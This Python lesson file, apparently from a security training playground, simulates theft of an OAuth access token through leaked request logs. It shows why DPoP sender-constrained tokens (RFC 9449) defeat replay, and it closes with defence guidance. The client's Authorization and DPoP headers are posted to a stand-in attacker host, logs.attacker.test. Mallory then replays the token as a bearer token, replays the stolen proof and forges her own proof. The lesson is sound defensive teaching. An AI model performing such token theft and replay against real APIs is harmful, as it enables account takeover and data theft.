"""A stolen access token: a bearer token works for whoever holds it; a
DPoP-bound one needs a proof made with the client's key (RFC 9449)."""

from playground import Lesson

LOG_SERVICE = "https://logs.attacker.test/upload"
ALICE = "u-1001"
SCOPE = "basic photos.read"

lesson = Lesson(
    "Stolen access token: bearer or DPoP-bound",
    level="advanced",
    kind="attack",
    weakness="rs.accept_bearer_for_dpop_bound",
    summary=(
        "PhotoPrint Business logs the requests it sends to the photos API, "
        "headers and all, to a log service Mallory reads. She gets Alice's "
        "access token and the DPoP proof that came with it. A bearer token is "
        "all it takes when the API still takes DPoP-bound tokens as bearer "
        "tokens. Sender-constrained, the token is refused without a proof; the "
        "stolen proof is refused at another URL, with another method and a "
        "second time; and a proof Mallory signs herself names the wrong key."
    ),
    defence="""
**Sender-constrain access tokens, and make the API check the binding.**

- Issue DPoP-bound tokens (RFC 9700 4.10.1 recommends sender-constrained
  access tokens; the FAPI 2.0 Security Profile 5.3.2.1 says "shall only issue
  sender-constrained access tokens"). The token says which key it is bound
  to (`cnf.jkt`, RFC 9449 6.1).
- At the API, **refuse a DPoP-bound token sent as a bearer token** (RFC 9449
  7.2: a protected resource supporting both schemes "MUST reject a
  DPoP-bound access token received as a bearer token"). The defended run
  answers **401** `invalid_token`; the careless API took it as any bearer
  token and ignored `cnf`.
- Check every proof as RFC 9449 4.3 says: `htm` and `htu` for this request,
  `iat` recent, `ath` the hash of this token, a `jti` never seen before
  (11.1), and the proof's key the one in `cnf.jkt` (7.1). Each stolen-proof
  attempt in this lesson failed on one of these.
- Keep tokens and proofs out of logs all the same: a copied proof is good for
  its one request until the API has seen it, and a server nonce (RFC 9449 9)
  shortens how long a proof made in advance lives. DPoP does not protect the
  request body (FAPI 2.0 Security Profile, "DPoP proof replay").
""",
)


@lesson.step("PhotoPrint Business gets Alice's DPoP-bound token")
def sign_in(run):
    """
    PhotoPrint Business, the FAPI 2.0 client of the FAPI lesson, pushes its
    authorization request (PAR), Alice signs in and approves, and the client
    redeems the code with a DPoP proof. The token response says
    `token_type: DPoP`, and the access token carries `cnf.jkt`: the
    thumbprint of the client's DPoP key.
    """
    client = run.fapi_client
    run.check(
        "the PAR endpoint answers 201",
        client.push_authorization_request(SCOPE).status_code == 201,
    )
    run.browser.open(client.pending.url)
    run.browser.sign_in("alice", "wonderland")
    run.browser.follow_redirect()
    run.browser.approve()
    code = run.browser.redirect_params.get("code", "")
    response = client.exchange_code(code)
    run.check("the token endpoint answers 200", response.status_code == 200)
    run.check("token_type is DPoP", client.tokens.get("token_type") == "DPoP")
    claims = run.decode(client.tokens.get("access_token", "")).claims
    run.check(
        "the token is bound to the client's key (cnf.jkt)",
        "jkt" in claims.get("cnf", {}),
    )


@lesson.step("The client calls the API and logs the request")
def call_and_log(run):
    """
    The client sends `GET /api/photos` with `Authorization: DPoP <token>` and
    a fresh DPoP proof (`htm` GET, `htu` the photos URL, `ath` the token's
    hash): **200**, Alice's photos.

    Then its request log goes where it should not: the client uploads the
    request it just sent, headers included, to a hosted log service whose
    storage Mallory reads (second exchange: from the **client** to
    `logs.attacker.test`). This is the FAPI 2.0 Attacker Model's **A7**, an
    attacker who can read resource requests. Mallory now holds the access
    token and the proof.
    """
    client = run.fapi_client
    response = client.call_api("/api/photos")
    run.check("the API answers 200", response.status_code == 200)
    [call] = [e for e in run.exchanges if e.request.target == "/api/photos"]
    logged = {
        "authorization": call.request.header("Authorization") or "",
        "dpop": call.request.header("DPoP") or "",
        "request": f"{call.request.method} {call.request.url}",
    }
    upload = client.http.post(LOG_SERVICE, data=logged)
    run.check("the log upload went through (204)", upload.status_code == 204)
    run.stolen_token = run.attacker.loot("authorization")[-1].removeprefix("DPoP ")
    run.stolen_proof = run.attacker.loot("dpop")[-1]
    run.check(
        "Mallory holds the access token and its proof",
        run.stolen_token == client.tokens.get("access_token")
        and bool(run.stolen_proof),
    )


@lesson.step("Mallory sends the token as a bearer token")
def as_bearer(run):
    """
    From her own machine Mallory sends `GET /api/photos` with `Authorization:
    Bearer <stolen token>` and no proof, as with any bearer token (RFC 6750
    1.2: "Any party in possession of a bearer token ... can use it").

    - **Weakness on** (`rs.accept_bearer_for_dpop_bound`): the API reads
      the Bearer scheme, finds a token with a good signature, the right
      `aud` and time left, and never looks at `cnf`: **200**, Alice's
      photos. Binding the token at the authorization server bought nothing.
    - **Defended**: **401** `invalid_token`: the token is DPoP-bound, and a
      DPoP-bound token received as a bearer token is refused (RFC 9449 7.2).
    """
    run.present_to_api(
        run.stolen_token,
        "/api/photos",
        refused_because=(
            "The access token is DPoP-bound (cnf.jkt): send it with "
            "'Authorization: DPoP' and a DPoP proof, not as a bearer token."
        ),
    )


def refused_proof(run, response, reason):
    body = response.json() if response.content else {}
    challenge = response.headers.get("WWW-Authenticate", "")
    run.check("the API answers 401", response.status_code == 401)
    run.check(
        'WWW-Authenticate: DPoP ... error="invalid_dpop_proof"',
        challenge.startswith("DPoP ") and 'error="invalid_dpop_proof"' in challenge,
        challenge,
    )
    if body:
        run.check(f"because {reason}", reason in body.get("error_description", ""))
    else:
        run.check(f"because {reason}", reason in challenge)


@lesson.step("The stolen proof, for another URL")
def other_url(run):
    """
    Mallory tries it the DPoP way: `Authorization: DPoP <token>` and the
    stolen proof in the `DPoP` header, but for `GET /api/user`, Alice's
    profile. The proof says `htu` `https://api.photos.test/api/photos`: it was
    made for one URL (RFC 9449 4.3: "The htu claim matches the HTTP URI value
    for the HTTP request in which the JWT was received").

    **401** in both runs: a `WWW-Authenticate: DPoP` challenge with
    `invalid_dpop_proof` and `algs`, the algorithms the API takes (RFC 9449
    7.1). The weakness concerns bearer tokens only; a request that uses the
    DPoP scheme is checked in full.
    """
    response = run.attacker.call_api_with_dpop(
        "/api/user", run.stolen_token, run.stolen_proof
    )
    refused_proof(run, response, "htu is 'https://api.photos.test/api/photos'")


@lesson.step("The stolen proof, with another method")
def other_method(run):
    """
    Same URL as the proof's, another method: `HEAD /api/photos`. The proof
    says `htm` `GET` (RFC 9449 4.3: "The htm claim matches the HTTP method of
    the current request"). **401** `invalid_dpop_proof` in both runs (a HEAD
    answer has no body: the reason is in the `WWW-Authenticate` header).
    """
    response = run.attacker.call_api_with_dpop(
        "/api/photos", run.stolen_token, run.stolen_proof, method="HEAD"
    )
    refused_proof(run, response, "htm is 'GET', but this request is a HEAD")


@lesson.step("The stolen proof, exactly as it was sent")
def replayed(run):
    """
    Now exactly the request the client sent: `GET /api/photos`, the token,
    the proof. Everything in the proof fits, and within the minute `iat`
    allows. But the API remembers the `jti` of every proof it accepted, per
    URL, for as long as the proof could be accepted (RFC 9449 11.1): this
    one was used by the client in step 2. **401** `invalid_dpop_proof`, a
    replayed proof.
    """
    response = run.attacker.call_api_with_dpop(
        "/api/photos", run.stolen_token, run.stolen_proof
    )
    refused_proof(run, response, "was already used")


@lesson.step("A proof Mallory signs herself")
def own_proof(run):
    """
    Last, Mallory makes a fresh proof for `GET /api/photos`, right `htm`,
    `htu`, `iat`, a new `jti`, and `ath` the hash of the stolen token, and
    signs it with **her own** DPoP key: she does not have the client's. The
    proof itself is sound, so the API goes on to the binding: the proof's key
    has another thumbprint than the token's `cnf.jkt` (RFC 9449 7.1: "check
    that the public key of the DPoP proof matches the public key to which the
    access token is bound"). **401** `invalid_token`, naming both
    thumbprints, in both runs.
    """
    proof = run.attacker.own_dpop_proof(
        "GET", "/api/photos", run.stolen_token, jti="mallory-1"
    )
    response = run.attacker.call_api_with_dpop("/api/photos", run.stolen_token, proof)
    challenge = response.headers.get("WWW-Authenticate", "")
    run.check("the API answers 401", response.status_code == 401)
    run.check(
        'WWW-Authenticate: DPoP ... error="invalid_token"',
        challenge.startswith("DPoP ") and 'error="invalid_token"' in challenge,
        challenge,
    )
    run.check(
        "the proof's key is not the token's",
        "but the token is bound to key" in response.json().get("error_description", ""),
    )
